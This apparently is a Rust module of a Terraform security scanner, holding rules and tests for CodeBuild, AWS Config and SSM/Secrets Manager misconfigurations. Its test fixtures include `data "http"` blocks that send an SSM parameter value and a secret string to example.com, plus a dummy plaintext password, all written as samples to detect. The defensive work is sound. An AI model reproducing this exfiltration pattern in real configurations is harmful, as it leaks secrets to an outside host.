//! Build and account configuration: CodeBuild projects and webhooks, AWS Config
//! recorders and aggregators, SSM parameters and documents. (Secrets Manager's own
//! rules are in `key_management.rs`.)
//!
//! A secret leaked through a `data "http"` request is found on the secret's side, because rules run on managed resources
//! (a data source is read, not created, so nothing checks it on its own).

use super::compute::customer_key;
use crate::finding::Severity;
use crate::resource::Resource;
use crate::rules::values::{known_blocks, single_block};
use crate::rules::{Context, ResourceRule, RuleMeta, Tri, Verdicts};
use crate::secrets::hard_coded_value;
use crate::value::Value;

// Not `controls::ENCRYPTION_AT_REST`: no HIPAA mapping for these rules.
const ENCRYPTION_AT_REST: &[(&str, &[&str])] = &[
    ("soc2", &["CC6.1"]),
    ("pci-dss-4.0", &["3.5.1"]),
    ("nist-800-53-r5", &["SC-28"]),
    ("nist-csf-2.0", &["PR.DS-01"]),
];

// Not `controls::CUSTOMER_KEY`: these rules carry no CSF mapping; adding PR.DS-01
// would change their output, so it is left for a deliberate mapping review.
const CUSTOMER_KEY: &[(&str, &[&str])] = &[
    ("soc2", &["CC6.1"]),
    ("pci-dss-4.0", &["3.6.1"]),
    ("nist-800-53-r5", &["SC-12", "SC-28"]),
];

const HARD_CODED_SECRETS: &[(&str, &[&str])] = &[
    ("soc2", &["CC6.1"]),
    ("pci-dss-4.0", &["8.6.2"]),
    ("nist-800-53-r5", &["IA-5(7)"]),
    ("nist-csf-2.0", &["PR.AA-01"]),
];

const CONFIG_RECORDING: &[(&str, &[&str])] = &[
    ("cis-aws-3.0", &["3.3"]),
    ("soc2", &["CC7.1"]),
    ("nist-800-53-r5", &["CM-8"]),
    ("nist-csf-2.0", &["ID.AM-02"]),
];

/// An aggregator collects what recorders record; it enables none itself, so the CIS
/// recommendation to enable Config everywhere is the recorders' control.
const CONFIG_AGGREGATION: &[(&str, &[&str])] = &[
    ("soc2", &["CC7.1"]),
    ("nist-800-53-r5", &["CM-8"]),
    ("nist-csf-2.0", &["ID.AM-02"]),
];

pub(super) const RULES: &[ResourceRule] = &[
    // ----- CodeBuild -----
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-001",
            title: "CodeBuild project disables artifact encryption",
            severity: Severity::High,
            description: "`encryption_disabled = true` in `artifacts` or `secondary_artifacts` makes CodeBuild write build output to S3 unencrypted; build artifacts often carry credentials, configuration and deployable code. Artifacts are encrypted unless this is set.",
            remediation: "Remove `encryption_disabled` (or set it to false) in every artifacts block.",
            aliases: &["AWS-0018", "AVD-AWS-0018"],
            frameworks: ENCRYPTION_AT_REST,
            resource_types: &["aws_codebuild_project"],
        },
        check: check_codebuild_artifact_encryption,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-002",
            title: "CodeBuild project runs builds in privileged mode",
            severity: Severity::Medium,
            description: "`environment.privileged_mode = true` gives the build container root access to a Docker daemon on the build host. Code built by the project (a pull request, a compromised dependency) can then escape the build's isolation and read the project's credentials and cache. It is off by default and needed only to build Docker images.",
            remediation: "Set `privileged_mode = false`, or build images with a daemonless builder (kaniko, buildah); keep privileged projects away from untrusted sources.",
            aliases: &["CKV_AWS_316"],
            frameworks: &[
                ("soc2", &["CC6.1"]),
                ("nist-800-53-r5", &["AC-6", "CM-7"]),
                ("nist-csf-2.0", &["PR.AA-05"]),
            ],
            resource_types: &["aws_codebuild_project"],
        },
        check: check_codebuild_privileged,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-003",
            title: "CodeBuild project has a plaintext secret in its environment variables",
            severity: Severity::Critical,
            description: "Environment variables of type PLAINTEXT (the default) are stored in the project, shown to anyone who can read it and in every build log that prints the environment, and kept in Terraform state. A literal password, token or key there is exposed.",
            remediation: "Store the secret in Secrets Manager or Parameter Store and use `type = \"SECRETS_MANAGER\"` or `\"PARAMETER_STORE\"` with its name as the `value`.",
            aliases: &[],
            frameworks: HARD_CODED_SECRETS,
            resource_types: &["aws_codebuild_project"],
        },
        check: check_codebuild_plaintext_secrets,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-004",
            title: "CodeBuild project is not encrypted with a customer managed key",
            severity: Severity::Low,
            description: "Without `encryption_key` CodeBuild encrypts artifacts and caches with the AWS managed `aws/s3` key, whose policy cannot be restricted or its use audited per project.",
            remediation: "Set `encryption_key` to a customer managed `aws_kms_key` ARN.",
            aliases: &[],
            frameworks: CUSTOMER_KEY,
            resource_types: &["aws_codebuild_project"],
        },
        check: check_codebuild_customer_key,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-005",
            title: "CodeBuild project keeps no build logs",
            severity: Severity::Medium,
            description: "With `logs_config.cloudwatch_logs.status = \"DISABLED\"` and S3 logs not enabled (their default), builds leave no log: what a build ran, fetched or published cannot be investigated. CloudWatch logging is on unless disabled.",
            remediation: "Keep `cloudwatch_logs { status = \"ENABLED\" }` (the default), or enable `s3_logs`.",
            aliases: &[],
            frameworks: &[
                ("soc2", &["CC7.2"]),
                ("pci-dss-4.0", &["10.2.1"]),
                ("nist-800-53-r5", &["AU-12"]),
                ("nist-csf-2.0", &["PR.PS-04"]),
            ],
            resource_types: &["aws_codebuild_project"],
        },
        check: check_codebuild_logs,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CB-006",
            title: "CodeBuild webhook actor filter is not anchored",
            severity: Severity::High,
            description: "Webhook filter patterns are regular expressions matched anywhere in the value: an `ACTOR_ACCOUNT_ID` pattern such as `12345|67890` without `^` and `$` also matches any account id that merely contains one of those numbers, so an outsider's pull request can trigger a build that holds the project's credentials.",
            remediation: "Anchor every `ACTOR_ACCOUNT_ID` pattern: `pattern = \"^(12345|67890)$\"`.",
            aliases: &[],
            frameworks: &[
                ("soc2", &["CC6.1", "CC8.1"]),
                ("nist-800-53-r5", &["AC-3"]),
                ("nist-csf-2.0", &["PR.AA-05"]),
            ],
            resource_types: &["aws_codebuild_webhook"],
        },
        check: check_codebuild_webhook_actor,
    },
    // ----- AWS Config -----
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CFG-001",
            title: "Config aggregator does not aggregate all regions",
            severity: Severity::High,
            description: "An aggregator source that lists `regions` instead of `all_regions = true` misses every region not listed, including ones an attacker chooses precisely because nobody watches them, and regions enabled later.",
            remediation: "Set `all_regions = true` in the `account_aggregation_source` or `organization_aggregation_source` (and drop `regions`).",
            aliases: &["AWS-0019", "AVD-AWS-0019", "CKV_AWS_121"],
            frameworks: CONFIG_AGGREGATION,
            resource_types: &["aws_config_configuration_aggregator"],
        },
        check: check_config_aggregator_regions,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CFG-002",
            title: "Config configuration recorder is stopped",
            severity: Severity::High,
            description: "`aws_config_configuration_recorder_status` with `is_enabled = false` stops the recorder: configuration changes are no longer recorded or evaluated by Config rules, so drift and tampering go unseen.",
            remediation: "Set `is_enabled = true`.",
            aliases: &[],
            frameworks: CONFIG_RECORDING,
            resource_types: &["aws_config_configuration_recorder_status"],
        },
        check: check_config_recorder_enabled,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-CFG-003",
            title: "Config configuration recorder does not record all resource types",
            severity: Severity::Medium,
            description: "With `recording_group.all_supported = false` the recorder records only the types listed (or excludes some): changes to every other resource type are not recorded. The provider defaults `all_supported` to true.",
            remediation: "Set `recording_group { all_supported = true }` (the default) and, in one region, `include_global_resource_types = true`.",
            aliases: &[],
            frameworks: CONFIG_RECORDING,
            resource_types: &["aws_config_configuration_recorder"],
        },
        check: check_config_recorder_all_supported,
    },
    // ----- Secrets Manager and Systems Manager -----
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-SSM-001",
            title: "Secret value is sent out through a data \"http\" request",
            severity: Severity::Critical,
            description: "A `data \"http\"` source runs its request during every plan, wherever Terraform runs: a URL, header or body built from an SSM parameter's or a secret version's value sends that value to the host named, typically before anyone reviews the plan.",
            remediation: "Remove the reference from the `http` data source; pass secrets to services through their own secret-aware integrations, never in requests made at plan time.",
            aliases: &["AWS-0134", "AVD-AWS-0134"],
            frameworks: &[
                ("soc2", &["CC6.1", "CC6.7"]),
                ("nist-800-53-r5", &["SC-8", "AC-4"]),
                ("nist-csf-2.0", &["PR.DS-02"]),
            ],
            resource_types: &["aws_ssm_parameter", "aws_secretsmanager_secret_version"],
        },
        check: check_secret_leaked_over_http,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-SSM-002",
            title: "SSM document is shared publicly",
            severity: Severity::High,
            description: "`permissions = { type = \"Share\", account_ids = \"All\" }` makes the document public: every AWS account can read it and run it, along with whatever commands, hostnames and embedded values it holds.",
            remediation: "List the account ids that need the document in `account_ids`, or remove `permissions`.",
            aliases: &["CKV_AWS_303"],
            frameworks: &[
                ("soc2", &["CC6.1"]),
                ("nist-800-53-r5", &["AC-3", "AC-21"]),
                ("nist-csf-2.0", &["PR.AA-05"]),
            ],
            resource_types: &["aws_ssm_document"],
        },
        check: check_ssm_document_public,
    },
    ResourceRule {
        meta: RuleMeta {
            id: "RG-AWS-SSM-003",
            title: "SSM SecureString parameter is not encrypted with a customer managed key",
            severity: Severity::Low,
            description: "A SecureString parameter without `key_id` is encrypted with the AWS managed `alias/aws/ssm` key, which any principal in the account allowed `ssm:GetParameter` can use to decrypt: the key adds no separation of who may read the value.",
            remediation: "Set `key_id` to a customer managed `aws_kms_key` whose policy grants decryption only to the parameter's readers.",
            aliases: &[],
            frameworks: CUSTOMER_KEY,
            resource_types: &["aws_ssm_parameter"],
        },
        check: check_ssm_parameter_customer_key,
    },
];

// ----- CodeBuild -----

fn check_codebuild_artifact_encryption(project: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let mut unknown = false;
    for block in ["artifacts", "secondary_artifacts"] {
        let Some(bodies) = known_blocks(project.attributes.get(block)) else {
            unknown = true;
            continue;
        };
        for (i, artifacts) in bodies.iter().enumerate() {
            // No artifacts are written, so there is nothing to encrypt.
            if Tri::str(artifacts.get("type")) == Tri::Known("NO_ARTIFACTS") {
                continue;
            }
            match Tri::bool(artifacts.get("encryption_disabled")) {
                Tri::Known(true) => out.fail(
                    format!("CodeBuild project `{}` writes `{block}` unencrypted (`encryption_disabled = true`)", project.address),
                    Some(&format!("{block}.{i}.encryption_disabled")),
                ),
                Tri::Unknown => unknown = true,
                _ => {}
            }
        }
    }
    if unknown {
        out.cannot_tell("the artifact settings are known only after apply");
    }
}

fn check_codebuild_privileged(project: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let privileged = single_block(project.attributes.get("environment"))
        .and_then(|env| Tri::bool(env.get("privileged_mode")));
    match privileged {
        Tri::Known(true) => out.fail(
            format!(
                "CodeBuild project `{}` runs builds in privileged mode",
                project.address
            ),
            Some("environment.0.privileged_mode"),
        ),
        Tri::Unknown => out.cannot_tell("`privileged_mode` is known only after apply"),
        _ => {}
    }
}

fn check_codebuild_plaintext_secrets(project: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let environment = match single_block(project.attributes.get("environment")) {
        Tri::Known(environment) => environment,
        Tri::Missing => return,
        Tri::Unknown => return out.cannot_tell("the build environment is known only after apply"),
    };
    let Some(variables) = known_blocks(environment.get("environment_variable")) else {
        return out.cannot_tell("the environment variables are known only after apply");
    };
    let mut found = Vec::new();
    for variable in variables {
        // Only PLAINTEXT values hold the secret itself; the other types name a store.
        let plaintext = Tri::str(variable.get("type"))
            .or_default_value("PLAINTEXT")
            .map(|t| t == "PLAINTEXT");
        if plaintext != Tri::Known(true) {
            continue;
        }
        if let (Tri::Known(name), Tri::Known(value)) = (
            Tri::str(variable.get("name")),
            Tri::str(variable.get("value")),
        ) && let Some(secret) = hard_coded_value(name, value)
        {
            found.push(secret.to_string());
        }
    }
    if !found.is_empty() {
        out.fail(
            format!(
                "CodeBuild project `{}` has plaintext secrets in its environment: {}",
                project.address,
                found.join(", ")
            ),
            Some("environment.0.environment_variable"),
        );
    }
}

fn check_codebuild_customer_key(project: &Resource, ctx: &Context<'_>, out: &mut Verdicts) {
    match customer_key(ctx, project, project.attributes.get("encryption_key")) {
        Tri::Known(false) => out.fail(
            format!(
                "CodeBuild project `{}` does not set a customer managed `encryption_key`",
                project.address
            ),
            None,
        ),
        Tri::Unknown => out.cannot_tell("`encryption_key` is known only after apply"),
        _ => {}
    }
}

fn check_codebuild_logs(project: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let logs = match single_block(project.attributes.get("logs_config")) {
        Tri::Known(logs) => logs,
        Tri::Missing => return,
        Tri::Unknown => return out.cannot_tell("`logs_config` is known only after apply"),
    };
    let status = |block: &str, default: &'static str| {
        single_block(logs.get(block))
            .and_then(|b| Tri::str(b.get("status")))
            .or_default_value(default)
            .map(|s| s == "ENABLED")
    };
    let cloudwatch = status("cloudwatch_logs", "ENABLED");
    let s3 = status("s3_logs", "DISABLED");
    match Tri::any([cloudwatch, s3]) {
        Tri::Known(false) => out.fail(
            format!(
                "CodeBuild project `{}` keeps no build logs: CloudWatch logs are disabled and S3 logs are not enabled",
                project.address
            ),
            Some("logs_config"),
        ),
        Tri::Unknown => out.cannot_tell("the log settings are known only after apply"),
        _ => {}
    }
}

/// A regular expression that matches whole values only: `^…$`.
fn is_anchored(pattern: &str) -> bool {
    pattern.starts_with('^') && pattern.ends_with('$')
}

fn check_codebuild_webhook_actor(webhook: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let Some(groups) = known_blocks(webhook.attributes.get("filter_group")) else {
        return out.cannot_tell("the webhook's filter groups are known only after apply");
    };
    let mut unknown = false;
    for (g, group) in groups.iter().enumerate() {
        let Some(filters) = known_blocks(group.get("filter")) else {
            unknown = true;
            continue;
        };
        for (f, filter) in filters.iter().enumerate() {
            if Tri::str(filter.get("type")) != Tri::Known("ACTOR_ACCOUNT_ID") {
                continue;
            }
            // An excluding filter only narrows what builds.
            if Tri::bool(filter.get("exclude_matched_pattern")) == Tri::Known(true) {
                continue;
            }
            match Tri::str(filter.get("pattern")) {
                Tri::Known(pattern) if !is_anchored(pattern) => out.fail(
                    format!(
                        "webhook `{}` matches actors with the unanchored pattern \"{pattern}\": other account ids containing it also match",
                        webhook.address
                    ),
                    Some(&format!("filter_group.{g}.filter.{f}.pattern")),
                ),
                Tri::Unknown => unknown = true,
                _ => {}
            }
        }
    }
    if unknown {
        out.cannot_tell("an actor filter pattern is known only after apply");
    }
}

// ----- AWS Config -----

fn check_config_aggregator_regions(aggregator: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    for source in [
        "account_aggregation_source",
        "organization_aggregation_source",
    ] {
        match single_block(aggregator.attributes.get(source)) {
            Tri::Known(body) => match Tri::bool(body.get("all_regions")) {
                Tri::Known(true) => {}
                Tri::Unknown => out.cannot_tell("`all_regions` is known only after apply"),
                _ => out.fail(
                    format!("Config aggregator `{}` aggregates only some regions (`all_regions` is not true)", aggregator.address),
                    Some(&format!("{source}.0")),
                ),
            },
            Tri::Unknown => out.cannot_tell("the aggregation source is known only after apply"),
            Tri::Missing => {}
        }
    }
}

fn check_config_recorder_enabled(status: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    match Tri::bool(status.attributes.get("is_enabled")) {
        Tri::Known(false) => out.fail(
            format!(
                "Config recorder status `{}` stops the recorder (`is_enabled = false`)",
                status.address
            ),
            Some("is_enabled"),
        ),
        Tri::Unknown => out.cannot_tell("`is_enabled` is known only after apply"),
        _ => {}
    }
}

fn check_config_recorder_all_supported(
    recorder: &Resource,
    _ctx: &Context<'_>,
    out: &mut Verdicts,
) {
    let all = single_block(recorder.attributes.get("recording_group"))
        .and_then(|g| Tri::bool(g.get("all_supported")));
    match all {
        Tri::Known(false) => out.fail(
            format!(
                "Config recorder `{}` records only some resource types (`all_supported = false`)",
                recorder.address
            ),
            Some("recording_group.0.all_supported"),
        ),
        Tri::Unknown => out.cannot_tell("the recording group is known only after apply"),
        _ => {}
    }
}

// ----- Secrets Manager and Systems Manager -----

/// The arguments of the `http` data source that go out with its request.
const HTTP_REQUEST_ARGUMENTS: &[&str] = &["url", "request_headers", "request_body"];

/// The attributes that hold a secret's value: an SSM parameter's `value` /
/// `insecure_value`, a secret version's `secret_string` / `secret_binary`.
const SECRET_VALUE_ATTRIBUTES: &[&str] =
    &["value", "insecure_value", "secret_string", "secret_binary"];

/// Whether a reference reads the secret's value: one of its value attributes, or the
/// whole resource object (`jsonencode(aws_ssm_parameter.p)`), which carries them.
fn reads_secret_value(reference: &str) -> bool {
    let mut steps = reference.split('.');
    let attribute = steps.nth(2);
    match attribute {
        None => true,
        Some(attribute) => {
            SECRET_VALUE_ATTRIBUTES.contains(&attribute.split('[').next().unwrap_or_default())
        }
    }
}

/// Whether a value is built from `target`'s secret value, anywhere inside it.
fn sends_secret(
    ctx: &Context<'_>,
    from: &Resource,
    value: Option<&Value>,
    target: &Resource,
) -> bool {
    match value {
        Some(Value::Map(map)) => map
            .iter()
            .any(|(_, v)| sends_secret(ctx, from, Some(v), target)),
        Some(Value::List(items)) => items
            .iter()
            .any(|v| sends_secret(ctx, from, Some(v), target)),
        Some(Value::Unknown(unknown)) => unknown.references.iter().any(|reference| {
            reads_secret_value(reference)
                && ctx.refers_to(
                    from,
                    Some(&Value::unknown(None, vec![reference.clone()])),
                    target,
                ) == Tri::Known(true)
        }),
        _ => false,
    }
}

fn check_secret_leaked_over_http(secret: &Resource, ctx: &Context<'_>, out: &mut Verdicts) {
    for request in ctx.of_type("http") {
        for argument in HTTP_REQUEST_ARGUMENTS {
            if sends_secret(ctx, request, request.attributes.get(argument), secret) {
                out.fail(
                    format!(
                        "`{}` is sent out in the `{argument}` of the HTTP request `{}`",
                        secret.address, request.address
                    ),
                    None,
                );
                return;
            }
        }
    }
}

fn check_ssm_document_public(document: &Resource, _ctx: &Context<'_>, out: &mut Verdicts) {
    let permissions = match Tri::value(document.attributes.get("permissions")) {
        Tri::Known(Value::Map(map)) => map,
        Tri::Known(_) | Tri::Unknown => {
            return out.cannot_tell("the document's `permissions` are known only after apply");
        }
        Tri::Missing => return,
    };
    let shared = Tri::str(permissions.get("type")).map(|t| t == "Share");
    let everyone = match Tri::str(permissions.get("account_ids")) {
        Tri::Known(ids) => Tri::Known(
            ids.split(',')
                .any(|id| id.trim().eq_ignore_ascii_case("all")),
        ),
        other => other.map(|_| false),
    };
    match shared.and(|| everyone) {
        Tri::Known(true) => out.fail(
            format!(
                "SSM document `{}` is shared with all AWS accounts",
                document.address
            ),
            Some("permissions"),
        ),
        Tri::Unknown => out.cannot_tell("the document's sharing is known only after apply"),
        _ => {}
    }
}

fn check_ssm_parameter_customer_key(parameter: &Resource, ctx: &Context<'_>, out: &mut Verdicts) {
    match Tri::str(parameter.attributes.get("type")) {
        Tri::Known("SecureString") => {}
        Tri::Unknown => return out.cannot_tell("the parameter's `type` is known only after apply"),
        _ => return,
    }
    match customer_key(ctx, parameter, parameter.attributes.get("key_id")) {
        Tri::Known(false) => out.fail(
            format!(
                "SecureString parameter `{}` is encrypted with the AWS managed `alias/aws/ssm` key",
                parameter.address
            ),
            None,
        ),
        Tri::Unknown => out.cannot_tell("`key_id` is known only after apply"),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::test_support::{flagged, hcl, undecided};

    #[test]
    fn codebuild_artifacts_privilege_and_keys() {
        let r = hcl(r#"
resource "aws_codebuild_project" "bad" {
  encryption_key = "alias/aws/s3"
  artifacts { type = "S3" }
  secondary_artifacts {
    type                = "S3"
    encryption_disabled = true
  }
  environment {
    privileged_mode = true
  }
}
resource "aws_codebuild_project" "good" {
  encryption_key = aws_kms_key.build.arn
  artifacts {
    type                = "S3"
    encryption_disabled = false
  }
  environment {
    privileged_mode = false
  }
}
resource "aws_codebuild_project" "none" {
  artifacts {
    type                = "NO_ARTIFACTS"
    encryption_disabled = true
  }
}
resource "aws_codebuild_project" "chosen" {
  encryption_key = var.key
  artifacts {
    encryption_disabled = var.plain
  }
  environment {
    privileged_mode = var.docker
  }
}"#);
        assert_eq!(flagged(&r, "RG-AWS-CB-001"), ["aws_codebuild_project.bad"]);
        assert_eq!(
            undecided(&r, "RG-AWS-CB-001"),
            ["aws_codebuild_project.chosen"]
        );
        assert_eq!(flagged(&r, "RG-AWS-CB-002"), ["aws_codebuild_project.bad"]);
        assert_eq!(
            undecided(&r, "RG-AWS-CB-002"),
            ["aws_codebuild_project.chosen"]
        );
        assert_eq!(
            flagged(&r, "RG-AWS-CB-004"),
            ["aws_codebuild_project.bad", "aws_codebuild_project.none"]
        );
        assert_eq!(
            undecided(&r, "RG-AWS-CB-004"),
            ["aws_codebuild_project.chosen"]
        );
    }

    #[test]
    fn codebuild_environment_secrets() {
        let r = hcl(r#"
resource "aws_codebuild_project" "leaky" {
  environment {
    environment_variable {
      name  = "DB_PASSWORD"
      value = "Sup3rS3cretPassw0rd!"
    }
  }
}
resource "aws_codebuild_project" "stored" {
  environment {
    environment_variable {
      name  = "DB_PASSWORD"
      value = "/prod/db/password"
      type  = "PARAMETER_STORE"
    }
    environment_variable {
      name  = "STAGE"
      value = "prod"
    }
    environment_variable {
      name  = "API_TOKEN"
      value = var.api_token
    }
  }
}"#);
        assert_eq!(
            flagged(&r, "RG-AWS-CB-003"),
            ["aws_codebuild_project.leaky"]
        );
    }

    #[test]
    fn codebuild_logs() {
        let r = hcl(r#"
resource "aws_codebuild_project" "silent" {
  logs_config {
    cloudwatch_logs { status = "DISABLED" }
  }
}
resource "aws_codebuild_project" "s3" {
  logs_config {
    cloudwatch_logs { status = "DISABLED" }
    s3_logs {
      status   = "ENABLED"
      location = "logs/build"
    }
  }
}
resource "aws_codebuild_project" "default" {
  artifacts { type = "NO_ARTIFACTS" }
}
resource "aws_codebuild_project" "chosen" {
  logs_config {
    cloudwatch_logs { status = var.status }
  }
}"#);
        assert_eq!(
            flagged(&r, "RG-AWS-CB-005"),
            ["aws_codebuild_project.silent"]
        );
        assert_eq!(
            undecided(&r, "RG-AWS-CB-005"),
            ["aws_codebuild_project.chosen"]
        );
    }

    #[test]
    fn codebuild_webhook_actor_filters() {
        let r = hcl(r#"
resource "aws_codebuild_webhook" "loose" {
  project_name = "p"
  filter_group {
    filter {
      type    = "EVENT"
      pattern = "PULL_REQUEST_CREATED"
    }
    filter {
      type    = "ACTOR_ACCOUNT_ID"
      pattern = "12345|67890"
    }
  }
}
resource "aws_codebuild_webhook" "anchored" {
  project_name = "q"
  filter_group {
    filter {
      type    = "ACTOR_ACCOUNT_ID"
      pattern = "^(12345|67890)$"
    }
    filter {
      type                    = "ACTOR_ACCOUNT_ID"
      pattern                 = "666"
      exclude_matched_pattern = true
    }
  }
}
resource "aws_codebuild_webhook" "chosen" {
  project_name = "r"
  filter_group {
    filter {
      type    = "ACTOR_ACCOUNT_ID"
      pattern = var.actors
    }
  }
}"#);
        assert_eq!(
            flagged(&r, "RG-AWS-CB-006"),
            ["aws_codebuild_webhook.loose"]
        );
        assert_eq!(
            undecided(&r, "RG-AWS-CB-006"),
            ["aws_codebuild_webhook.chosen"]
        );
    }

    #[test]
    fn config_aggregator_and_recorder() {
        let r = hcl(r#"
resource "aws_config_configuration_aggregator" "some" {
  name = "some"
  account_aggregation_source {
    account_ids = ["123456789012"]
    regions     = ["us-west-2"]
  }
}
resource "aws_config_configuration_aggregator" "all" {
  name = "all"
  organization_aggregation_source {
    role_arn    = aws_iam_role.r.arn
    all_regions = true
  }
}
resource "aws_config_configuration_recorder_status" "off" {
  name       = "r"
  is_enabled = false
}
resource "aws_config_configuration_recorder_status" "on" {
  name       = "r"
  is_enabled = true
}
resource "aws_config_configuration_recorder" "partial" {
  role_arn = aws_iam_role.r.arn
  recording_group {
    all_supported  = false
    resource_types = ["AWS::EC2::Instance"]
  }
}
resource "aws_config_configuration_recorder" "default" {
  role_arn = aws_iam_role.r.arn
}
resource "aws_config_configuration_recorder_status" "chosen" {
  name       = "r"
  is_enabled = var.on
}"#);
        assert_eq!(
            flagged(&r, "RG-AWS-CFG-001"),
            ["aws_config_configuration_aggregator.some"]
        );
        assert_eq!(
            flagged(&r, "RG-AWS-CFG-002"),
            ["aws_config_configuration_recorder_status.off"]
        );
        assert_eq!(
            undecided(&r, "RG-AWS-CFG-002"),
            ["aws_config_configuration_recorder_status.chosen"]
        );
        assert_eq!(
            flagged(&r, "RG-AWS-CFG-003"),
            ["aws_config_configuration_recorder.partial"]
        );
    }

    #[test]
    fn secrets_sent_over_http() {
        let r = hcl(r#"
resource "aws_ssm_parameter" "leaked" {
  name  = "a"
  type  = "SecureString"
  value = var.a
}
resource "aws_secretsmanager_secret_version" "leaked" {
  secret_id     = aws_secretsmanager_secret.s.id
  secret_string = var.b
}
resource "aws_ssm_parameter" "kept" {
  name  = "c"
  type  = "SecureString"
  value = var.c
}
data "http" "url" {
  url = "https://example.com/?p=${aws_ssm_parameter.leaked.value}"
}
data "http" "header" {
  url = "https://example.com/"
  request_headers = {
    Authorization = aws_secretsmanager_secret_version.leaked.secret_string
  }
}
data "http" "harmless" {
  url = "https://example.com/${aws_ssm_parameter.kept.name}x"
}"#);
        assert_eq!(
            flagged(&r, "RG-AWS-SSM-001"),
            [
                "aws_ssm_parameter.leaked",
                "aws_secretsmanager_secret_version.leaked"
            ]
        );
    }

    #[test]
    fn ssm_documents_and_parameters() {
        let r = hcl(r#"
resource "aws_ssm_document" "public" {
  name          = "a"
  document_type = "Command"
  content       = "{}"
  permissions = {
    type        = "Share"
    account_ids = "All"
  }
}
resource "aws_ssm_document" "shared" {
  name          = "b"
  document_type = "Command"
  content       = "{}"
  permissions = {
    type        = "Share"
    account_ids = "123456789012"
  }
}
resource "aws_ssm_parameter" "secure_default" {
  name  = "a"
  type  = "SecureString"
  value = var.a
}
resource "aws_ssm_parameter" "secure_own" {
  name   = "b"
  type   = "SecureString"
  value  = var.b
  key_id = aws_kms_key.ssm.arn
}
resource "aws_ssm_parameter" "plain" {
  name  = "c"
  type  = "String"
  value = "x"
}"#);
        assert_eq!(flagged(&r, "RG-AWS-SSM-002"), ["aws_ssm_document.public"]);
        assert_eq!(
            flagged(&r, "RG-AWS-SSM-003"),
            ["aws_ssm_parameter.secure_default"]
        );
    }
}
